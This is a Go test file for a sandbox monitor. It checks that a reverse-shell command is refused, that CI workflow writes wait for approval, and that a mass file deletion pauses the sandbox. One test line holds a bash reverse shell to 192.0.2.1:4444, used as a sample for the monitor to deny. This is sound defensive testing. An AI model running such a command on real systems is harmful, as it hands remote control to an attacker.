package steptest

import (
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/paddock-sandbox/paddock"
)

// judged is a sandbox with a monitor, which outlives its driver, and a workspace with files that matter.
type judged struct {
	session
	open    Open
	journal string
}

// workflow is a file that matters: its change is asked about.
const workflow = ".github/workflows/ci.yml"

// other is another one. The kernel of a sandbox may keep a file open that was written.
const other = ".github/workflows/other.yml"

// watch makes a sandbox with a monitor.
func watch(t *testing.T, base paddock.Spec, open Open, m paddock.Monitor) *judged {
	t.Helper()
	dir := t.TempDir()
	if err := os.Chmod(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	w := &judged{session: session{work: filepath.Join(dir, "work"), state: filepath.Join(dir, "state")}, open: open, journal: filepath.Join(dir, "journal")}
	clearLater(t, w.journal)
	for _, name := range []string{filepath.Dir(workflow), "src"} {
		if err := os.MkdirAll(filepath.Join(w.work, name), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	names := []string{workflow, other, "free"}
	for i := range 60 {
		names = append(names, fmt.Sprint("src/f", i))
	}
	for _, name := range names {
		if err := os.WriteFile(filepath.Join(w.work, name), []byte("mine\n"), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	w.reopen(t)
	info, err := w.driver.Info(t.Context(), paddock.Auto)
	if err != nil {
		t.Fatal(err)
	}
	if !info.Can(paddock.CanMonitor) {
		base.Monitor = &m
		if sb, err := w.driver.Create(t.Context(), base); !errors.Is(err, paddock.Unsupported) {
			t.Errorf("without the capability, a sandbox with a monitor: %v, %v", sb, err)
		}
		t.Skipf("tier %s has no monitor here: %v", info.Tier, info.Capabilities)
	}
	base.Mounts = append(base.Mounts[:len(base.Mounts):len(base.Mounts)], paddock.Mount{Source: w.work, Target: "/work", Write: true})
	base.Dir, base.Monitor = "/work", &m
	if w.sandbox, err = w.driver.Create(t.Context(), base); err != nil {
		t.Fatal(err)
	}
	id := w.sandbox.ID()
	t.Cleanup(func() {
		sb, err := w.driver.Open(context.Background(), id)
		if err == nil {
			err = sb.Remove(context.Background())
		}
		if err != nil && !errors.Is(err, paddock.NotFound) {
			t.Error(err)
		}
		if err := w.driver.Close(); err != nil {
			t.Error(err)
		}
	})
	return w
}

// reopen ends the driver, if there is one, as the end of its process would, and opens another one.
func (w *judged) reopen(t *testing.T) {
	t.Helper()
	if w.driver != nil {
		if err := w.driver.Close(); err != nil {
			t.Fatal(err)
		}
	}
	var err error
	if w.driver, err = w.open(w.state, w.journal); err != nil {
		t.Fatal(err)
	}
	if w.sandbox != nil {
		if w.sandbox, err = w.driver.Open(t.Context(), w.sandbox.ID()); err != nil {
			t.Fatal(err)
		}
	}
}

// begins starts a script, whose output is in out when it has ended.
func (w *judged) begins(t *testing.T, script string) (p paddock.Process, out *strings.Builder) {
	t.Helper()
	out = &strings.Builder{}
	p, err := w.sandbox.Start(t.Context(), paddock.Cmd{Args: []string{"sh", "-c", script}, Output: paddock.Output{Stdout: out, Stderr: out}})
	if err != nil {
		t.Fatal(err)
	}
	return p, out
}

// ends waits for the end of a process, and returns its exit status.
func ends(t *testing.T, p paddock.Process) int {
	t.Helper()
	exit, err := p.Wait(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	return exit.Code
}

// question waits until the monitor asks something.
func (w *judged) question(t *testing.T) paddock.MonitorQuestion {
	t.Helper()
	for {
		list, err := paddock.MonitorQuestions(t.Context(), w.sandbox, true)
		if err != nil {
			t.Fatal(err)
		}
		if len(list) > 0 {
			return list[0]
		}
	}
}

// pauseBriefly waits between two looks at what another process does.
func pauseBriefly(t *testing.T) {
	t.Helper()
	select {
	case <-time.After(10 * time.Millisecond):
	case <-t.Context().Done():
		t.Fatal(t.Context().Err())
	}
}

// state waits until the sandbox has a state.
func (w *judged) becomes(t *testing.T, want paddock.State) paddock.Status {
	t.Helper()
	for {
		st, err := w.sandbox.Status(t.Context())
		if err != nil {
			t.Fatal(err)
		}
		if st.State == want {
			return st
		}
		pauseBriefly(t)
	}
}

// has promises the content of a file of the workspace.
func (w *judged) has(t *testing.T, name, want string) {
	t.Helper()
	if data, err := os.ReadFile(filepath.Join(w.work, name)); err != nil || string(data) != want {
		t.Errorf("%s is %q, %v, not %q", name, data, err, want)
	}
}

// Monitored promises that a sandbox with a monitor refuses a command by its text, that what the monitor asks waits for an
// answer, also if the process that asks for the sandbox ends meanwhile, and that an answer is for one question.
func Monitored(t *testing.T, base paddock.Spec, open Open) {
	t.Helper()
	w := watch(t, base, open, paddock.Monitor{})
	st, err := w.sandbox.Status(t.Context())
	if err != nil || st.Monitor == nil || st.Undo == nil || len(st.Monitor.Without) > 0 {
		t.Fatalf("the status says %+v, %+v, %v", st.Monitor, st.Undo, err)
	}
	if p, err := w.sandbox.Start(t.Context(), paddock.Cmd{Args: []string{"sh", "-c", "touch ran; bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"}}); !errors.Is(err, paddock.Denied) || !strings.Contains(err.Error(), "reverse-shell") {
		t.Fatalf("a command that joins a shell to a connection: %v, %v", p, err)
	}
	if _, err := os.Lstat(filepath.Join(w.work, "ran")); err == nil {
		t.Error("the command that was refused has run")
	}

	p, out := w.begins(t, `echo theirs > `+workflow+` && echo written`)
	q := w.question(t)
	w.has(t, workflow, "mine\n")
	if q.Rule != "write-ci" || q.Moment != "effect" || q.Pauses || q.Done || !strings.Contains(q.About, workflow) || !q.Until.After(q.Asked) {
		t.Errorf("the question is %+v", q)
	}
	st, err = w.sandbox.Status(t.Context())
	if err != nil || st.Monitor.Open != 1 || st.State != paddock.Ready || st.Monitor.Verdicts["deny"] != 1 || st.Monitor.Verdicts["ask"] != 1 {
		t.Errorf("the status says %+v, %v", st.Monitor, err)
	}
	if err := paddock.AnswerMonitor(t.Context(), w.sandbox, "ANOTHER", true); !errors.Is(err, paddock.NotFound) {
		t.Errorf("an answer to no question: %v", err)
	}
	pid := p.ID()
	p.Release()
	w.reopen(t)
	if again := w.question(t); again.ID != q.ID {
		t.Errorf("after another process has opened the sandbox, the question is %+v, not %+v", again, q)
	}
	w.has(t, workflow, "mine\n")
	if p, err = w.sandbox.Attach(t.Context(), pid, paddock.Output{Stdout: out, Stderr: out}); err != nil {
		t.Fatal(err)
	}
	if err := paddock.AnswerMonitor(t.Context(), w.sandbox, q.ID, true); err != nil {
		t.Fatal(err)
	}
	if code := ends(t, p); code != 0 {
		t.Errorf("what was allowed ends with %d: %s", code, out)
	}
	w.has(t, workflow, "theirs\n")
	if err := paddock.AnswerMonitor(t.Context(), w.sandbox, q.ID, true); !errors.Is(err, paddock.NotFound) {
		t.Errorf("a second answer: %v", err)
	}

	p, out = w.begins(t, `echo again > `+other+` || echo refused; echo other > free`)
	if err := paddock.AnswerMonitor(t.Context(), w.sandbox, w.question(t).ID, false); err != nil {
		t.Fatal(err)
	}
	if code := ends(t, p); code != 0 || !strings.Contains(out.String(), "refused") {
		t.Errorf("what was denied ends with %d: %s", code, out)
	}
	w.has(t, other, "mine\n")
	w.has(t, "free", "other\n")
	w.recorded(t, `"rule":"reverse-shell"`, `"verdict":"ask"`, `"answered":"allow"`, `"answered":"deny"`, `"latency"`)
}

// recorded promises that the events of the sandbox have these texts, but for those that rules have not.
func (w *judged) recorded(t *testing.T, texts ...string) {
	t.Helper()
	data, err := os.ReadFile(filepath.Join(w.state, string(w.sandbox.ID()), "audit.jsonl"))
	if err != nil {
		t.Fatal(err)
	}
	for _, text := range texts {
		if text != `"latency"` && !strings.Contains(string(data), text) {
			t.Errorf("the events have no %s:\n%s", text, data)
		}
	}
}

// MonitoredAlone promises that a question that nobody answers is denied when its time is over.
func MonitoredAlone(t *testing.T, base paddock.Spec, open Open) {
	t.Helper()
	w := watch(t, base, open, paddock.Monitor{Wait: time.Millisecond})
	p, out := w.begins(t, `echo theirs > `+workflow+` || echo refused; echo again > `+workflow+` || echo still`)
	if code := ends(t, p); code != 0 || !strings.Contains(out.String(), "refused") || !strings.Contains(out.String(), "still") {
		t.Errorf("without an answer it ends with %d: %s", code, out)
	}
	w.has(t, workflow, "mine\n")
	w.recorded(t, "nobody answered within 1ms")
	if list, err := paddock.MonitorQuestions(t.Context(), w.sandbox, false); err != nil || len(list) > 0 {
		t.Errorf("what was denied is still asked: %+v, %v", list, err)
	}
}

// MonitoredPause promises that a denial of what is worse also pauses the sandbox, that its status tells why, also to another
// process, and that it goes on when somebody resumes it.
func MonitoredPause(t *testing.T, base paddock.Spec, open Open) {
	t.Helper()
	w := watch(t, base, open, paddock.Monitor{Removed: 5})
	p, _ := w.begins(t, `for f in src/*; do rm -f "$f" || break; done; sleep 100000`) // it asks once
	q := w.question(t)
	if q.Rule != "delete-many" || !q.Pauses || q.Done {
		t.Errorf("the question is %+v", q)
	}
	left, err := os.ReadDir(filepath.Join(w.work, "src"))
	if err != nil || len(left) < 5 {
		t.Fatalf("before the answer there are %d files, %v", len(left), err)
	}
	if err := paddock.AnswerMonitor(t.Context(), w.sandbox, q.ID, false); err != nil {
		t.Fatal(err)
	}
	w.becomes(t, paddock.Paused)
	p.Release()
	w.reopen(t)
	st := w.becomes(t, paddock.Paused)
	if st.Monitor == nil || !strings.Contains(st.Monitor.Paused, "delete-many") || !strings.Contains(st.Reason, "delete-many") {
		t.Errorf("the status says %q, %+v", st.Reason, st.Monitor)
	}
	if now, err := os.ReadDir(filepath.Join(w.work, "src")); err != nil || len(now) != len(left) {
		t.Errorf("after the denial there are %d files of %d, %v", len(now), len(left), err)
	}
	if _, err := w.sandbox.Start(t.Context(), paddock.Cmd{Args: []string{"true"}}); !errors.Is(err, paddock.Conflict) {
		t.Errorf("a command in a sandbox that its monitor has paused: %v", err)
	}
	if err := w.sandbox.Resume(t.Context()); err != nil {
		t.Fatal(err)
	}
	if st := w.becomes(t, paddock.Ready); st.Monitor.Paused != "" {
		t.Errorf("after it was resumed, the status says %+v", st.Monitor)
	}
	p, out := w.begins(t, `echo on > free`)
	if code := ends(t, p); code != 0 {
		t.Errorf("a command afterwards ends with %d: %s", code, out)
	}
}

// MonitoredMeanwhile promises that a sandbox can be paused and removed while its monitor asks something, which is denied then,
// and that an answer finds nothing when the process that asks was killed.
func MonitoredMeanwhile(t *testing.T, base paddock.Spec, open Open) {
	t.Helper()
	w := watch(t, base, open, paddock.Monitor{})
	script := `echo theirs > ` + workflow + ` || echo refused > free; sleep 100000`
	p, _ := w.begins(t, script)
	q := w.question(t)
	if err := w.sandbox.Pause(t.Context()); err != nil {
		t.Fatal(err)
	}
	p.Release()
	w.has(t, workflow, "mine\n")
	if err := paddock.AnswerMonitor(t.Context(), w.sandbox, q.ID, true); !errors.Is(err, paddock.NotFound) {
		t.Errorf("an answer after the pause: %v", err)
	}
	if err := w.sandbox.Resume(t.Context()); err != nil {
		t.Fatal(err)
	}
	for {
		if data, err := os.ReadFile(filepath.Join(w.work, "free")); err == nil && string(data) == "refused\n" {
			break
		}
		pauseBriefly(t)
	}
	w.has(t, workflow, "mine\n")

	p, _ = w.begins(t, script)
	q = w.question(t)
	if err := syscall.Kill(w.keeper(t), syscall.SIGKILL); err != nil {
		t.Fatal(err)
	}
	w.becomes(t, paddock.Dead)
	p.Release()
	if list, err := paddock.MonitorQuestions(t.Context(), w.sandbox, false); err != nil || len(list) > 0 {
		t.Errorf("a dead sandbox asks %+v, %v", list, err)
	}
	if err := paddock.AnswerMonitor(t.Context(), w.sandbox, q.ID, true); !errors.Is(err, paddock.NotFound) {
		t.Errorf("an answer to a dead sandbox: %v", err)
	}
	w.has(t, workflow, "mine\n")

	w = watch(t, base, open, paddock.Monitor{})
	p, _ = w.begins(t, script)
	defer p.Release()
	w.question(t)
	if err := w.sandbox.Remove(t.Context()); err != nil {
		t.Fatal(err)
	}
	w.has(t, workflow, "mine\n")
}
